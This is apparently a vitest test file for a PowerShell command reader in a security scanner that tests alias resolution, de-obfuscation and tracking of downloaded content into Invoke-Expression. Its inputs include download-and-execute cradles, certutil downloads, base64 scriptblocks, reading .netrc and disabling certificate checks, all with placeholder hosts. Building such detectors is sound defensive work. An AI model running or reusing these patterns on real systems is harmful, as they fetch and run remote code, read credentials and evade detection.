import { describe, expect, it } from "vitest";
import type { Command } from "../../program.ts";
import { Grammar } from "../grammar.ts";
import { powerShellReader } from "./read-powershell.ts";

const read = powerShellReader(await Grammar.load("powershell"));
const shown = ({ name, words }: Command): string => [name, ...words.map((word) => word.text)].join(" ");
const namesOf = (commands: readonly Command[]) => commands.map(({ name }) => name).join(" ");

describe("powerShellReader", () => {
  it.each([
    ["iwr x", ["invoke-webrequest x"]],
    ["curl x", ["invoke-webrequest x"]],
    ["curl.exe x", ["curl x"]],
    ["rm x", ["remove-item x"]],
    ["i`ex x", ["invoke-expression x"]],
    ["& ('i'+'ex') x", ["invoke-expression x"]],
    ["$c = 'i'+'ex'; & $c x", ["invoke-expression x"]],
    ["$u = 'http://x'; iwr $u", ["invoke-webrequest http://x"]],
    ["$u = 'x'; iwr \"http://$u/y\"", ["invoke-webrequest http://x/y"]],
    ["$u = 'a'; $u = 'b'; iwr $u", ["invoke-webrequest $u"]],
    ["cmd /c del x", ["remove-item x"]],
    [". ./x.ps1", [". ./x.ps1"]],
    ["if ($a) { a } else { b }", ["a", "b"]],
    ["function F { param($a) rm $a }", ["remove-item $a"]],
    ["PS C:\\> iwr x", ["invoke-webrequest x"]],
    ["('i','ex') -join '' | out-null", ["out-null"]],
    ["& (\"{0}{1}\" -f 'i','ex') x", ["invoke-expression x"]],
    ['cmd /c "type $Name"', ["get-content $Name"]],
    ["$cmd = 'iwr'; & $cmd x", ["invoke-webrequest x"]],
    ["$cmd = 'i' + 'wr'; .$cmd x", ["invoke-webrequest x"]],
    ["gc $HOME\\.netrc $d\\x -Raw", ["get-content $HOME\\.netrc $d\\x -Raw"]],
    ["ac $env:TEMP\\x a\nrm b", ["add-content $env:TEMP\\x a", "remove-item b"]],
    ["gc 'a $b\\c'", ["get-content a $b\\c"]],
    ["$t = @'\nx $HOME\\y\n'@\nrm b", ["remove-item b"]],
    ["foreach ($f in 'a', 'b') { gc $f }", ["get-content a b"]],
    ["foreach ($f in 'a') { gc $f }", ["get-content a"]],
    ["choco install a --source='http://x' -y", ["choco install a --source http://x -y"]],
    ['certutil.exe -urlcache -split -f "http://x" y', ["certutil -urlcache -f http://x y"]],
  ])("reads the commands of %j", (text, expected) => {
    expect(read(text, 1).commands.map(shown)).toEqual(expected);
  });

  it("tells what a command reads, also in a script block", () => {
    const { commands } = read("iwr x | iex", 1);
    expect(namesOf(commands[1]?.reads ?? [])).toBe("invoke-webrequest");
    expect(namesOf(read("gci | % { rm $_ }", 1).commands[2]?.reads ?? [])).toBe("get-childitem");
  });

  it.each([
    ["iex (iwr u)", "invoke-webrequest"],
    ["iex (iwr u).Content", "invoke-webrequest"],
    ["$x = (1, 2 | % { gc $_ }) -join ''; iex $x", "foreach-object"],
    ["$x = iwr u; iex $x", "invoke-webrequest"],
    ['iex "$(iwr u)"', "invoke-webrequest"],
    ["iex (New-Object Net.WebClient).DownloadString('u')", "net.webclient.downloadstring"],
    ["$w = New-Object System.Net.WebClient; iex $w.DownloadString('u')", "net.webclient.downloadstring"],
    ["IEX(New-Object Net.WebClient).DownloadString('u')", "net.webclient.downloadstring"],
    ["$x = iwr u; foreach ($l in $x) { iex $l }", "invoke-webrequest"],
    ["foreach ($l in Get-Content f) { iex $l }", "get-content"],
    ["iwr u | % { iex $_ }", "invoke-webrequest"],
    ["iwr u | ForEach-Object { $t = $_.Content; iex $t }", "invoke-webrequest"],
    ["$w.DownloadString('u') | % { iex $_ }", "w.downloadstring"],
  ])("tells whose output stands in %j", (text, inner) => {
    const command = read(text, 1).commands.find(({ name }) => name === "invoke-expression");
    expect(command?.inner.map(({ name }) => name)).toContain(inner);
  });

  it.each([
    ["[System.Net.WebClient]::new()", "Net.WebClient.new", []],
    ["(New-Object Net.WebClient).DownloadString('u')", "Net.WebClient.DownloadString", ["u"]],
    ["$w = New-Object Net.WebClient; $w.DownloadFile('u', 'f')", "Net.WebClient.DownloadFile", ["u", "f"]],
    ["$w = [Net.WebClient]::new(); $w.DownloadData('u')", "Net.WebClient.DownloadData", ["u"]],
    ["IEX(New-Object Net.WebClient).DownloadString('u')", "Net.WebClient.DownloadString", ["u"]],
    ["$m = 'DownloadString'; $w = New-Object Net.WebClient; $w.$m('u')", "Net.WebClient.DownloadString", ["u"]],
    ["$m = 'DownloadString'; $w = New-Object Net.WebClient; $w.$m.Invoke('u')", "Net.WebClient.DownloadString", ["u"]],
    ["[Convert]::FromBase64String('YQ==')", "Convert.FromBase64String", ["YQ=="]],
    ["[Text.Encoding]::UTF8.GetString('a')", "Text.Encoding.UTF8.GetString", ["a"]],
    [
      "[Net.ServicePointManager]::ServerCertificateValidationCallback = {$true}",
      "Net.ServicePointManager.ServerCertificateValidationCallback",
      [null],
    ],
  ])("reads the call of %j", (text, callee, values) => {
    const call = read(text, 1).calls.at(-1);
    expect(call?.callee).toBe(callee);
    expect(call?.args.map(({ value }) => value)).toEqual(values);
  });

  it("tells the whole chain of calls that reach one", () => {
    const { calls } = read(
      "[scriptblock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)))",
      1,
    );
    expect(calls.at(-1)?.from.map(({ callee }) => callee)).toEqual([
      "Text.Encoding.UTF8.GetString",
      "Convert.FromBase64String",
    ]);
  });

  it.each([
    ["powershell -c 'x'", "x"],
    ["pwsh -EncodedCommand YQBiAA==", "ab"],
    ["Invoke-Expression 'x'", "x"],
    ["'x' | iex", "x"],
    ["Start-Process powershell -ArgumentList '-enc YQBiAA=='", "ab"],
  ])("finds the program in %j", (text, program) => {
    expect(read(text, 2).embedded).toEqual([{ language: "powershell", text: program, line: 2 }]);
  });

  it("tells elevation, environment, modules and comments", () => {
    const program = read("Start-Process x -Verb RunAs\nImport-Module Y # why\necho $env:TOKEN", 1);
    expect(program.commands.map(({ isElevated }) => isElevated)).toEqual([true, false, false]);
    expect(program).toMatchObject({
      environment: [{ value: "TOKEN", line: 3 }],
      imports: [{ value: "Y", line: 2 }],
      comments: [{ value: "why", line: 2 }],
    });
  });

  it.each([
    "",
    "\0",
    "if (",
    "'",
    "(".repeat(20_000),
    "'a'+".repeat(20_000),
    "a | ".repeat(1_000),
    "{".repeat(20_000),
    "gc $a\\b ".repeat(10_000),
  ])("does not fail at broken or deep text (case %#)", (text) => {
    expect(() => read(text, 1)).not.toThrow();
  });
});
